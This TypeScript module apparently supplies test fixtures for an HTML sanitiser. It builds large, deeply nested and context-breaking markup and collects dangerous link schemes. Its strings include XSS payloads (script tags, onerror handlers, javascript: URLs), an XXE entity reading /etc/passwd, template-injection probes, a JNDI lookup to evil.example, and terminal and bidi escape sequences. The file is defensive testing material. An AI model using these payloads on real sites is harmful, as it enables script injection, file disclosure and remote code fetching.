import { readFileSync } from 'node:fs';
import { corpus } from '../../conversation/corpora.ts';

const dompurify = JSON.parse(
  readFileSync(new URL('../../fixtures/corpora/dompurify/payloads.json', import.meta.url), 'utf8'),
) as string[];

const deep = (tag: string, count: number): string => `<${tag}>`.repeat(count);
const wall = (unit: string): string => unit.repeat(Math.ceil(65_536 / unit.length));

/** What must hold without the sanitiser's own tests: large, deep, and what ends other languages than HTML. */
const large: Record<string, string> = {
  'a wall of one word': wall('x'),
  'a wall of right to left': wall('\u05d0\u202e'),
  'a wall of marks on one letter': `a${'\u0338\u0353\u0489'.repeat(5000)}`,
  'a wall of nothing wide': wall('\u200b\u2060\ufeff'),
  'ten thousand quotes in one another': deep('blockquote', 10_000),
  'ten thousand lists in one another': deep('ul><li', 10_000),
  'ten thousand bold in one another': `${deep('b', 10_000)}x`,
  'a thousand mentions': '<a class="mention" href="https://evil.example/@x">@x</a> '.repeat(1000),
  'five thousand lines': '<br>'.repeat(5000),
  'a table of a thousand cells': `<table>${'<tr><td>x'.repeat(1000)}`,
};

const endings: Record<string, string> = {
  'the end of a script': '</script><script>alert(1)</script>',
  'the end of a comment and of CDATA': '--><![CDATA[ ]]> ]]&gt; --!> <!-- <script>alert(1)</script>',
  'the end of our own elements': '</div></li></ol></article></main></body></html><script>alert(1)</script>',
  'the end of a feed’s item': '</content></entry></feed></description></item></channel></rss><script/>',
  'an entity and a document type': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;&#0;&#xD800;</p>',
  'templates of six languages': `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {% raw %} @(7*7) \${jndi:ldap://evil.example/x}`,
  'code for a terminal': '\u001b[31m\u001b]8;;https://evil.example\u0007x\u001b]0;x\u0007\u009b2J \u001bc \r\b\b\u0000',
  'letters that turn the direction': '\u202egnp.exe\u202c \u2066x\u2069 \u061c \u200f',
  'lines that only a script knows': '\u2028alert(1)\u2029//',
  'half a pair of surrogates': 'a\ud800b\udfffc',
  'no characters at all': '\u0000\ufffe\uffff\ufdd0\u0001\u0008',
  'parts of a page by name':
    '<a id="content" name="body" class="u-url h-entry">x</a><p id="replies" style="position:fixed">x</p>',
};

const schemes = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
  ...[
    'java\nscript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
  ],
  ...[
    'javascript&#9;:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg/>',
  ],
  ...['file:///etc/passwd', 'blob:https://blog.example.com/x', 'filesystem:https://x/', 'intent://x#Intent;end'],
  ...[
    '//evil.example/x',
    '/\\evil.example',
    '\\\\evil.example',
    'https:evil.example',
    'https://user:pass@evil.example',
  ],
  ...[
    'ms-settings:x',
    'view-source:https://x/',
    'about:blank',
    'feed:javascript:alert(1)',
    'web+x:y',
    'ws://evil.example/',
  ],
];

/** Addresses that lead to nothing that a reader may be led to, as links are written. */
export const addresses: readonly string[] = schemes;

const name = (text: string): string => JSON.stringify(text).slice(1, 70);

/** Name → markup. */
export const markups: Record<string, string> = {
  ...large,
  ...endings,
  ...Object.fromEntries(
    schemes.map((one) => [
      `a link to ${name(one)}`,
      `<a href="${one}" target="_top" ping="https://evil.example">x</a>`,
    ]),
  ),
  ...Object.fromEntries(
    [...corpus('markup').map(({ text }) => text), ...dompurify]
      .filter((_, index) => index % 9 === 0)
      .map((text) => [`markup: ${name(text)}`, text]),
  ),
};

/** Words for where no markup is read: a name, a title, a description. Each holds several attacks. */
export const words: Record<string, string> = {
  'a script': '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  attributes: `x" onmouseover="alert(1)" style='x' autofocus=''`,
  'what ends other languages': `</title></script>]]>-->*/'; {{7*7}} \${7*7} <%x%>`,
  entities: '&lt;script&gt;alert(1)&lt;/script&gt;&#0;&quot;&nbsp;',
  'what a terminal acts on': '\u001b[2J\u001b]0;x\u0007\r\n\b\u009b31m\u0000',
  'what turns the direction': '\u202eevil\u2066\u2069\u2028\u2029\ud800\ufffe\u061c',
  'marks without end': `a${'\u0338\u0353'.repeat(90)}`,
  'a long word': 'w'.repeat(5000),
};
